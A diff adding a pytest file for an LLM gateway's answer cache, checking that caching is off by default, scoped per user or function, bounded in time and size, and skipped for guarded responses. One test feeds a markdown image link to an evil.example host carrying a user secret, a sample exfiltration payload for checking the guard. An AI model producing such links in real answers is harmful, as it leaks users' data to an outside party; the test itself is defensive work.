@@ -1,0 +1,70 @@
+"""The exact-match cache: off unless wanted, never for somebody else, never unguarded."""
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from gateway_support import Gateway, Provider, gateway_of, make_policy, message
+
+from seawall.gateway.cache import AnswerCache
+from seawall.policy.resources import Cache
+
+
+def ask(gateway: Gateway, text: str, user: str = "u", key: str | None = None, **more: Any) -> Any:
+    messages: Any = [{"role": "user", "content": text}]
+    return gateway.client(key).chat.completions.with_raw_response.create(
+        model="other", messages=messages, user=user, **more
+    )
+
+
+def test_it_is_off_unless_the_policy_says_so(gateway: Gateway, provider: Provider) -> None:
+    for _ in range(2):
+        assert "x-seawall-cache" not in ask(gateway, "Hi").headers
+    assert len(provider.seen) == 2
+
+
+@pytest.mark.parametrize(("scope", "asked"), [("user", 2), ("function", 1)])
+def test_the_same_request_costs_nothing_the_second_time(
+    provider: Provider, tmp_path: Path, scope: str, asked: int
+) -> None:
+    policy = make_policy(provider, extra=f"cache: {{seconds: 60, scope: {scope}}}\n")
+    with gateway_of(policy, provider, tmp_path) as gateway:
+        provider.reset()
+        first, again = ask(gateway, "Hi"), ask(gateway, "Hi")
+        assert "x-seawall-cache" not in first.headers
+        assert again.headers["x-seawall-cache"] == "hit"
+        assert again.parse().choices[0].message.content == "Hello."
+        record = gateway.record(again.headers["x-seawall-request-id"])
+        assert (record["cost"], record["details"]) == (0.0, {"cache": "hit"})
+        ask(gateway, "Hi", user="v")
+        assert len(provider.seen) == asked
+        ask(gateway, "Hi", key=gateway.keys["batch"])  # another function: asked anew
+        ask(gateway, "Hi", temperature=0.1)
+        ask(gateway, "Ho")
+        assert len(provider.seen) == asked + 3
+
+
+def test_what_a_guard_touched_is_not_kept(provider: Provider, tmp_path: Path) -> None:
+    policy = make_policy(provider, extra="cache: {seconds: 60}\n")
+    with gateway_of(policy, provider, tmp_path) as gateway:
+        provider.reset()
+        provider.script = message("![x](https://evil.example/?q=secret-of-the-user)")
+        for _ in range(2):
+            ask(gateway, "Hi")
+        assert len(provider.seen) == 2
+
+
+def test_entries_end_and_have_little_room(provider: Provider) -> None:
+    now = [0.0]
+    policy = make_policy(provider, extra="cache: {seconds: 10, max_entries: 2, max_bytes: 8}\n")
+    assert policy.cache == Cache(seconds=10, max_entries=2, max_bytes=8)
+    cache, upstream = AnswerCache(policy, "v", lambda: now[0]), policy.upstreams[0]
+    cache.put(b"a", upstream, b"1234")
+    cache.put(b"b", upstream, b"1234")
+    assert cache.get(b"a")
+    cache.put(b"c", upstream, b"1")
+    assert cache.get(b"b") is None and cache.get(b"a") and cache.get(b"c")
+    cache.put(b"d", upstream, b"123456789")  # larger than all the room
+    assert cache.get(b"d") is None and cache.get(b"a")
+    now[0] = 10.0
+    assert cache.get(b"a") is None
